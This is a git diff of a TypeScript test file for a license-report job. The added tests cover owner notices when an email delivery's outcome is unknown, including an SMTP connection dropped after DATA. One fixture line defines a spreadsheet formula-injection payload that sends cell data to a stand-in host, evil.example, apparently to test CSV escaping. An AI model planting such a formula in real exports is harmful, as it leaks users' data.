@@ -7,6 +7,7 @@
 import { createHash } from 'node:crypto';
 import { gunzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { smtpMailer } from '../../../src/adapters/mail/nodemailer-mailer.ts';
 import type { LicenseKeyRecord } from '../../../src/client/index.ts';
 import { Licenses } from '../../../src/config/licenses-schema.ts';
 import type { PulseConfig } from '../../../src/config/schema.ts';
@@ -16,7 +17,9 @@ import { csvRecords } from '../../../src/jobs/licenses/csv-records.ts';
 import { readStoredFigures } from '../../../src/jobs/licenses/registry-snapshot.ts';
 import { runLicenseReport } from '../../../src/jobs/licenses/run-license-report.ts';
 import { fixedClock } from '../../../src/ports/clock.ts';
+import type { Mailer } from '../../../src/ports/mailer.ts';
 import { DIGEST_TODAY, type LocalDigest, type ReceivedMail, startLocalDigest } from '../../helpers/local-digest.ts';
+import { startScriptedSmtp } from '../../helpers/scripted-smtp.ts';
 
 const [DESKTOP, SERVER] = ['12345678901', '9876543210'] as const;
 const HOSTILE_TYPE = '=HYPERLINK("http://evil.example/?x="&A1,"<b>click</b>")';
@@ -55,6 +58,11 @@ function configFor(prefix: string, recipients: string[], report: Record<string, 
 
 const mailsTo = async (address: string) => (await env.mails()).filter((m) => m.to === address);
 const textOf = (m: ReceivedMail) => m.parsed.text ?? '';
+/** The owner's notices of an unknown delivery to `address`. */
+const noticesAbout = async (address: string) =>
+  (await env.mails()).filter(
+    (m) => m.parsed.headers.get('x-pulse-notice') === 'delivery-unknown' && m.parsed.subject?.endsWith(`to ${address}`),
+  );
 const htmlOf = (m: ReceivedMail) => (typeof m.parsed.html === 'string' ? m.parsed.html : '');
 
 /** Every record of a product's registry, read directly (one page: the test registry is small). */
@@ -382,6 +390,23 @@ describe('unknown deliveries', () => {
     expect(reported).toMatchObject({ ok: false, counts: { sent: 0, unknown: 2 } });
     expect(reported.errors.join('\n')).toContain('pulse licenses report --week 2026-W47 --resend-unknown');
     expect(await mailsTo('lost@example.com')).toEqual([]);
+    // One notice to the owner per unknown delivery; a rerun sends neither a report nor a second notice.
+    const notices = await noticesAbout('lost@example.com');
+    expect(notices.map((m) => m.to)).toEqual(['owner@example.com']);
+    expect(notices[0]!.parsed.subject).toBe(
+      'Delivery unknown: Weekly license registry report, 2026-W47, to lost@example.com',
+    );
+    const text = textOf(notices[0]!);
+    expect(text).toContain(
+      'whether the license registry report “Weekly license registry report” for 2026-W47 reached lost@example.com',
+    );
+    expect(text).toContain('The connection was lost after DATA.');
+    expect(text).toContain('pulse licenses report --week 2026-W47 --resend-unknown');
+    expect(text).toContain('pulse licenses report --week 2026-W47 --confirm-unknown');
+    expect(await noticesAbout('arrived@example.com')).toHaveLength(1);
+    expect((await runLicenseReport(cfg, env.ports(MONDAY))).counts).toMatchObject({ sent: 0, unknown: 2 });
+    expect(await noticesAbout('lost@example.com')).toHaveLength(1);
+    expect(await noticesAbout('arrived@example.com')).toHaveLength(1);
 
     const resent = await runLicenseReport(configFor('unknown', ['lost@example.com']), env.ports(MONDAY), {
       unknownDeliveries: 'resend',
@@ -393,6 +418,41 @@ describe('unknown deliveries', () => {
     expect(confirmed).toMatchObject({ ok: true, counts: { sent: 0, confirmed: 1 } });
     expect(await mailsTo('lost@example.com')).toHaveLength(1);
     expect(await mailsTo('arrived@example.com')).toEqual([]);
-    expect((await runLicenseReport(cfg, env.ports(MONDAY))).counts).toMatchObject({ skippedAlreadySent: 2 });
+    const clean = await runLicenseReport(cfg, env.ports(MONDAY));
+    expect(clean).toMatchObject({ ok: true, errors: [], counts: { skippedAlreadySent: 2, unknown: 0 } });
+    expect(await noticesAbout('lost@example.com')).toHaveLength(1);
+    expect(await noticesAbout('arrived@example.com')).toHaveLength(1);
+  });
+
+  it('a connection dropped after the message: unknown, one notice to the owner, nothing again by itself', async () => {
+    const smtp = await startScriptedSmtp({ afterData: 'drop' });
+    const faulty = smtpMailer({ host: smtp.host, port: smtp.port, secure: false });
+    // The report goes to the scripted server, the owner's notice to the sink.
+    const mailer: Mailer = {
+      send: (m) => (m.to === 'owner@example.com' ? env.peers.mailer.send(m) : faulty.send(m)),
+    };
+    const cfg = configFor('dropped', ['dropped@example.com']);
+    try {
+      const first = await runLicenseReport(cfg, { ...env.ports(MONDAY), mailer });
+      expect(smtp.received).toBe(1);
+      expect(first).toMatchObject({ ok: false, counts: { sent: 0, unknown: 1 } });
+    } finally {
+      await smtp.close();
+    }
+    const notices = await noticesAbout('dropped@example.com');
+    expect(notices.map((m) => m.to)).toEqual(['owner@example.com']);
+    expect(textOf(notices[0]!)).toContain('The mail server may have taken it: Error: Connection closed unexpectedly');
+    const next = await runLicenseReport(cfg, env.ports(MONDAY));
+    expect(next).toMatchObject({ ok: false, counts: { sent: 0, unknown: 1 } });
+    expect(await mailsTo('dropped@example.com')).toEqual([]);
+    expect(await noticesAbout('dropped@example.com')).toHaveLength(1);
+    const confirmed = await runLicenseReport(cfg, env.ports(MONDAY), { unknownDeliveries: 'confirm' });
+    expect(confirmed).toMatchObject({ ok: true, counts: { sent: 0, confirmed: 1 } });
+    expect(await runLicenseReport(cfg, env.ports(MONDAY))).toMatchObject({
+      ok: true,
+      counts: { skippedAlreadySent: 1 },
+    });
+    expect(await mailsTo('dropped@example.com')).toEqual([]);
+    expect(await noticesAbout('dropped@example.com')).toHaveLength(1);
   });
 });
